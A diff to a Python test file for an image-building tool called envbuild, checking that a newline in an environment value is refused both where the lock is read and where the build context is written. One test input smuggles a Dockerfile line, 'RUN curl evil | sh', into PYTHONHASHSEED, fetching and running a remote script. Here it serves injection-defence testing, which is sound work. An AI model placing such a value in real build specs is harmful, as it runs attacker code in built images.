@@ -208,9 +208,12 @@ def test_a_newline_in_an_env_value_is_refused_with_its_key(tmp_path: Path) -> No
     done = envbuild("render", "-o", str(tmp_path / "out"), cwd=tmp_path)
     assert done.returncode == 2
     assert done.stderr.strip().splitlines() == [
-        "envbuild: error: [env] -> PYTHONHASHSEED: a control character (newline, tab, ...) cannot be baked into an "
-        "image's environment; remove it from the spec's [env]"]
+        "envbuild: error: envbuild.lock: [env] -> PYTHONHASHSEED: holds a control character (U+000A) at 1: one line "
+        "of printable characters only"], "refused where the lock is read"
     assert not (tmp_path / "out").exists()
+    lock = dataclasses.replace(lockfile.read_lock(LOCK), env=(("PYTHONHASHSEED", "0\nRUN curl evil | sh"),))
+    with pytest.raises(RenderError, match=r"\[env\] -> PYTHONHASHSEED: a control character"):
+        build_context(lock, LOCK.read_text())  # a lock made in code, past the reader: the writer refuses it too
 
 
 # ---------------------------------------------------------------------------------------------------------
